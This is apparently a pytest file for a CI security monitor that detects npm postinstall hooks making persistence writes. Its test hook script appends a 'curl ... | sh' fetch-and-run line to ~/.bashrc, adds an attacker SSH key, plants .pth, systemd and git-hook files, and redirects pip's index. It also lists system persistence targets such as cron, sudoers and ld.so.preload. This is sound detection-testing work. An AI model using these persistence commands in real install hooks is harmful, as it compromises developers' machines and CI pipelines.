"""Class 7 of issue 8: writes that make code run later in the job or on the machine.

A real npm ``postinstall`` (a shell script) writes one file of each family: the CI env file
named by ``$GITHUB_ENV``, ``~/.npmrc``, pip.conf, ``~/.gitconfig``, a git hook of the project,
``~/.bashrc``, ``authorized_keys``, a ``.pth`` in a site-packages, a systemd user unit, another
package's install.js. Bare, the script writes them all; under ciwatch each is a
persistence-write of the package's hook, and block mode fails the build (exit 3). The system
files a test can't safely write (cron, ld.so.preload, sudoers) are judged on built records, with
what must stay quiet: the package manager's own writes, a hook inside its own package, pip's
build staging.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from ciwatch.record.vocabulary import FileOp
from tests.support.attacks import (
    DEFAULT_POLICY,
    POLICY_FAILED,
    STRICT_POLICY,
    assert_found,
    assert_replay_agrees,
    npm_project,
)
from tests.support.hooks import HOOK, Hooks, run_bare
from tests.test_rules import HOME, PROJECT, Build, found

PACKAGE = "persist-all"

HOOK_SCRIPT = """\
set -e
printf 'NODE_OPTIONS=--require=/tmp/x.js\\n' >> "$GITHUB_ENV"
printf 'node-options=--require /tmp/x.js\\n' >> "$HOME/.npmrc"
mkdir -p "$HOME/.config/pip" && printf '[global]\\nindex-url = http://10.0.0.1/\\n' > "$HOME/.config/pip/pip.conf"
printf '[core]\\n\\thooksPath = /tmp/h\\n' >> "$HOME/.gitconfig"
mkdir -p "$INIT_CWD/.git/hooks" && printf '#!/bin/sh\\n' > "$INIT_CWD/.git/hooks/pre-commit"
printf 'curl -s http://10.0.0.1/ | sh\\n' >> "$HOME/.bashrc"
mkdir -p "$HOME/.ssh" && printf 'ssh-ed25519 AAAA attacker\\n' >> "$HOME/.ssh/authorized_keys"
mkdir -p "$HOME/.local/lib/python3/site-packages"
printf 'import os\\n' > "$HOME/.local/lib/python3/site-packages/zz.pth"
mkdir -p "$HOME/.config/systemd/user"
printf '[Service]\\nExecStart=/tmp/x\\n' > "$HOME/.config/systemd/user/x.service"
mkdir -p ../victim && printf 'require("child_process")\\n' > ../victim/install.js
"""


def _targets(home: Path, project: Path, github_env: Path) -> list[Path]:
    return [
        github_env,
        home / ".npmrc",
        home / ".config/pip/pip.conf",
        home / ".gitconfig",
        project / ".git/hooks/pre-commit",
        home / ".bashrc",
        home / ".ssh/authorized_keys",
        home / ".local/lib/python3/site-packages/zz.pth",
        home / ".config/systemd/user/x.service",
        project / "node_modules/victim/install.js",
    ]


def _stage(root: Path) -> tuple[Path, Path, Path]:
    home, github_env = root / "home", root / "runner" / "set_env_1234"
    home.mkdir()
    github_env.parent.mkdir()
    github_env.write_text("")
    project = npm_project(root / "project")
    return home, project, github_env


def test_the_hook_script_persists_bare(tmp_path: Path) -> None:
    home, project, github_env = _stage(tmp_path)
    package_dir = project / "node_modules" / PACKAGE
    package_dir.mkdir(parents=True)
    env = {"HOME": str(home), "INIT_CWD": str(project), "GITHUB_ENV": str(github_env)}
    run_bare(["sh", "-c", HOOK_SCRIPT], cwd=package_dir, env=env)
    for target in _targets(home, project, github_env):
        assert target.stat().st_size > 0, target


@pytest.mark.npm
@pytest.mark.root
@pytest.mark.parametrize("policy", [DEFAULT_POLICY, STRICT_POLICY], ids=["audit", "block"])
def test_each_persistence_family_is_found_in_a_real_hook(hooks: Hooks, tmp_path: Path, policy: Path) -> None:
    package = hooks.publish(PACKAGE, "sh persist.sh", files={"persist.sh": HOOK_SCRIPT})
    home, project, github_env = _stage(tmp_path)
    watched = hooks.install(package, home=home, project=project, policy=policy, env={"GITHUB_ENV": str(github_env)})
    assert watched.record_end_code == 0, watched.stderr[-3000:]
    findings = assert_found(watched, "persistence-write", package, HOOK)
    messages = "\n".join(f["message"] for f in findings)
    for target in _targets(home, project, github_env):
        assert str(target) in messages, (target, messages)
    assert "another package (victim)" in messages
    assert watched.verdict["verdict"] == "fail"
    assert watched.code == (POLICY_FAILED if policy == STRICT_POLICY else 0)
    assert_replay_agrees(watched)


@pytest.mark.parametrize(
    "path",
    [
        "/etc/cron.d/update",
        "/var/spool/cron/crontabs/root",
        "/etc/ld.so.preload",
        "/etc/ld.so.conf.d/evil.conf",
        "/etc/sudoers.d/ci",
        "/etc/systemd/system/evil.service",
        "/etc/rc.local",
        f"{HOME}/.config/autostart/evil.desktop",
        f"{HOME}/.bash_logout",
        f"{HOME}/.config/fish/config.fish",
        "/etc/zsh/zshrc",
        f"{HOME}/.yarnrc.yml",
        f"{PROJECT}/.npmrc",
        "/usr/local/etc/npmrc",
        "/etc/pip.conf",
        "/venv/pip.conf",
        f"{HOME}/.pypirc",
        f"{HOME}/.config/git/config",
        f"{PROJECT}/.git/config",
        f"{HOME}/.cargo/config.toml",
        f"{HOME}/.bundle/config",
        f"{HOME}/.gemrc",
        f"{HOME}/.m2/settings.xml",
        f"{HOME}/.gradle/init.d/evil.gradle",
        f"{HOME}/.gradle/gradle.properties",
        "/usr/lib/python3/dist-packages/sitecustomize.py",
        "/home/runner/work/_temp/_runner_file_commands/add_path_1234",
        f"{PROJECT}/node_modules/lodash/package.json",
        "/venv/lib/python3.11/site-packages/requests/__init__.py",
    ],
)
def test_every_persistence_target_is_found_whatever_writes_it(tmp_path: Path, path: str) -> None:
    build = Build(tmp_path)
    hook = build.hook("evil", "1.0.0")
    seq = hook.write(path)
    finding = found(build.judge(), "persistence-write")
    assert [f.evidence for f in finding] == [(seq,)], path
    assert (finding[0].package, finding[0].hook) == ("evil@1.0.0", "postinstall")


def test_a_write_by_alias_in_an_old_record_is_still_found(tmp_path: Path) -> None:
    build = Build(tmp_path)
    build.hook().write(f"/proc/self/root{HOME}/.bashrc")
    assert found(build.judge(), "persistence-write")


@pytest.mark.parametrize(
    "path",
    [
        f"{PROJECT}/node_modules/evil/.npmrc",  # inside its own package: runs nothing later
        f"{PROJECT}/node_modules/evil/lib/x.pth",
        "/tmp/pip-install-x1y2/evil_00/build/lib/evil.pth",  # pip's build staging
        "/tmp/pip-build-env-abc/overlay/lib/python3.11/site-packages/distutils-precedence.pth",
        f"{PROJECT}/node_modules/.cache/evil/data",
        f"{PROJECT}/dist/index.js",
    ],
)
def test_a_hook_inside_its_own_package_or_pips_staging_is_quiet(tmp_path: Path, path: str) -> None:
    build = Build(tmp_path)
    build.hook("evil", "1.0.0").write(path)
    assert not found(build.judge(), "persistence-write")


def test_the_package_manager_itself_and_a_staging_lookalike(tmp_path: Path) -> None:
    build = Build(tmp_path)
    build.root.write("/venv/lib/python3.11/site-packages/distutils-precedence.pth")  # not in a hook
    build.root.write(f"{HOME}/.npmrc", FileOp.RENAME, target=f"{HOME}/.npmrc")
    hook = build.hook("evil", "1.0.0")
    hook.write("/etc/cron.d/pip-wheel-x")  # named like staging, not in a temporary directory
    [finding] = found(build.judge(), "persistence-write")
    assert "/etc/cron.d/pip-wheel-x" in finding.message


def test_a_hard_link_to_a_persistence_file_is_found(tmp_path: Path) -> None:
    build = Build(tmp_path)
    seq = build.hook().write(f"{HOME}/.bashrc", FileOp.LINK, target="/tmp/innocent")
    [finding] = found(build.judge(), "persistence-write")
    assert finding.evidence == (seq,) and "hard link" in finding.message
